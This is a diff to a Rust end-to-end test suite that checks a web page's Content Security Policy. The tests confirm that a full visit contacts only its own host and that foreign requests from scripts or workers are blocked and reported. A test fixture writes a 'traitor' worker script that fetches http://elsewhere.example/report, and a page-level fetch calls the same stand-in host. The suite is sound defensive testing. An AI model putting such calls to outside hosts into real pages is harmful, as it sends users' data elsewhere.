@@ -1,10 +1,12 @@
-//! Does the page keep its own rules: nothing from elsewhere, nothing to elsewhere, not even by a worker?
+//! The page's own policy: nothing comes from elsewhere or goes there, not even by a worker.
 
 use std::fs;
 use std::path::{Path, PathBuf};
 
-use e2e::{Outcome, PREFIX, Page, Screen, Site, dist, visit_in, visit_under};
+use e2e::addresses::{HOW, LAB, fragment};
+use e2e::{Outcome, PREFIX, Page, Persona, Screen, Site, Tells, copy_of_dist, dist, visit_in, visit_under};
 use serde_json::{Value, json};
+use xtask::files::files_below;
 use xtask::headers::Headers;
 
 /// What is asked of the host whenever a rule of the page is broken, by the page or by one of its workers.
@@ -48,28 +50,28 @@ fn asked(log: &Path, site: &str) -> Outcome<Vec<String>> {
 
 /// Everything that can be done here, once.
 async fn whole_visit(page: &Page) -> Outcome<()> {
-    page.find(".figure-box.alive .you-handle:not(.waiting)").await?;
+    page.landing().live_dot().appears().await?;
     page.walk_to_the_quiz().await?;
-    page.answer_all(|asked| if asked <= 3 { '3' } else { '0' }).await?;
-    page.find(".today .in-words p").await?;
-    page.enter("[data-screen=result] [data-action=play]").await?;
-    page.find("[data-screen=result] [data-value=day]:not([data-day='0'])").await?;
-    page.share().await?;
-    let link = page.copied_link(true).await?;
-    page.enter("[data-action=save-wide]").await?;
-    page.text_once(".share-said", |said| said.contains("saved")).await?;
-    page.enter("[data-action=qr]").await?;
-    page.find("[data-value=qr] svg").await?;
-    let (_, code) = link.split_once('#').ok_or("the link has no code")?;
-    page.open(&format!("#{code}~{}", code.trim_start_matches("r1."))).await?;
-    page.find("[data-part=rest]").await?;
-    page.open("#lab").await?;
-    page.enter(".parts [data-beat='7']").await?;
-    page.text_once("[data-value=status]", |said| said.contains("you:")).await?;
-    page.enter("[data-action=play]").await?;
-    page.text_once("[data-value=status]", |said| !said.starts_with("day 0:")).await?;
-    page.open("how.html").await?;
-    page.find("[data-screen=how]").await.map(drop)
+    page.answer_all(Persona::Reticent).await?;
+    page.year().map_in_words().appears().await?;
+    page.year().play().enter().await?;
+    page.year().day().days_pass().await?;
+    page.share().open().await?;
+    let link = page.share().copied_link(Tells::Answers).await?;
+    page.share().save_wide().enter().await?;
+    page.share().said().says("saved").await?;
+    page.share().qr_button().enter().await?;
+    page.share().qr_code().appears().await?;
+    let code = fragment(&link).ok_or("the link has no code")?;
+    page.open(&format!("{code}~{}", code.trim_start_matches(Tells::Answers.start()))).await?;
+    page.comparison().rest().appears().await?;
+    page.open(LAB).await?;
+    page.beats().open_levers().await?;
+    page.lab().world().await?;
+    page.lab().press_play().await?;
+    page.lab().leaves_day_0().await?;
+    page.open(HOW).await?;
+    page.how().screen().appears().await
 }
 
 #[test]
@@ -78,8 +80,7 @@ fn a_whole_visit_breaks_no_rule_and_asks_nobody_but_its_own_host() {
     visit_under("locked", &dist(), headers(), async |site| {
         let page = walled_in(site, &log).await?;
         whole_visit(&page).await?;
-        assert_eq!(page.complaints().await?, Vec::<String>::new());
-        site.settled().await;
+        site.settled().await?;
         site.all_leave().await?;
         let broken: Vec<String> =
             site.requests().into_iter().filter(|path| path.starts_with(REPORT)).collect();
@@ -97,17 +98,10 @@ fn a_whole_visit_breaks_no_rule_and_asks_nobody_but_its_own_host() {
 
 /// A copy of the page with a worker in it that tells others.
 fn with_a_traitor() -> Outcome<PathBuf> {
-    let copy = Path::new(env!("CARGO_TARGET_TMPDIR")).join("traitor");
-    fs::create_dir_all(&copy)?;
-    for entry in fs::read_dir(dist())? {
-        let entry = entry?;
-        if entry.file_type()?.is_file() {
-            fs::copy(entry.path(), copy.join(entry.file_name()))?;
-        }
-    }
+    let copy = copy_of_dist("traitor")?;
     fs::write(
         copy.join("traitor.js"),
-        "fetch('http://elsewhere.example/told').catch(() => {}).then(() => postMessage(0))",
+        "fetch('http://elsewhere.example/report').catch(() => {}).then(() => postMessage(0))",
     )?;
     Ok(copy)
 }
@@ -119,32 +113,37 @@ const TELL: &str = "const done = arguments[0]; const worker = new Worker('traito
 fn whoever_breaks_a_rule_is_noticed() {
     let folder = with_a_traitor().expect("the page can be copied");
     let (open, closed) = (log("traitor-open"), log("traitor-closed"));
-    let told = |address: &String| address.contains("elsewhere.example");
+    let is_foreign = |address: &String| address.contains("elsewhere.example");
     // A plain host's page stops its own scripts but not its workers: the network's log notices those.
     visit_in("traitor-open", &folder, async |site| {
         let page = walled_in(site, &open).await?;
-        page.find("html[data-running]").await?;
-        page.complaints().await?;
+        page.document().starts().await?;
+        assert_eq!(page.complaints().await?, Vec::<String>::new(), "before anything was tried");
+        page.expects_complaints(&["elsewhere.example"]);
         page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
-        assert!(page.complaints().await?.iter().any(|said| said.contains("Content Security Policy")));
+        page.complains_about("Content Security Policy").await?;
         page.asks_and_waits(TELL, Vec::new()).await?;
         site.all_leave().await?;
         let asked = asked(&open, &site.address())?;
-        assert_eq!(asked.into_iter().filter(told).collect::<Vec<_>>(), ["http://elsewhere.example/told"]);
+        assert_eq!(
+            asked.into_iter().filter(is_foreign).collect::<Vec<_>>(),
+            ["http://elsewhere.example/report"]
+        );
         Ok(())
     });
-    // With the headers nothing gets out, and both are told on.
+    // With the headers nothing gets out, and both are reported.
     visit_under("traitor-closed", &folder, headers(), async |site| {
         let page = walled_in(site, &closed).await?;
-        page.find("html[data-running]").await?;
+        page.expects_complaints(&["elsewhere.example", REPORT]);
+        page.document().starts().await?;
         page.asks("return fetch('http://elsewhere.example/by-the-page').catch(() => {})").await?;
         page.asks_and_waits(TELL, Vec::new()).await?;
-        site.settled().await;
+        site.settled().await?;
         site.all_leave().await?;
         let reports = site.requests().iter().filter(|path| path.starts_with(REPORT)).count();
         assert_eq!(reports, 2, "{:?}", site.requests());
         let asked = asked(&closed, &site.address())?;
-        assert_eq!(asked.into_iter().filter(told).count(), 0);
+        assert_eq!(asked.into_iter().filter(is_foreign).count(), 0);
         Ok(())
     });
 }
@@ -163,8 +162,8 @@ const WAYS_OUT: [&str; 7] = [
 #[test]
 fn no_script_knows_a_way_out() {
     let mut read = 0;
-    for entry in fs::read_dir(dist()).expect("the page is built") {
-        let path = entry.expect("its files can be listed").path();
+    for file in files_below(&dist(), &[]).expect("the page is built") {
+        let path = dist().join(file);
         // Two scripts stand in the page.
         if path.extension().is_some_and(|extension| extension == "js") || path.ends_with("index.html") {
             let text = fs::read_to_string(&path).expect("scripts are text");
@@ -177,5 +176,5 @@ fn no_script_knows_a_way_out() {
             read += 1;
         }
     }
-    assert!(read > 9, "{read} files");
+    assert!(read > 8, "{read} files");
 }
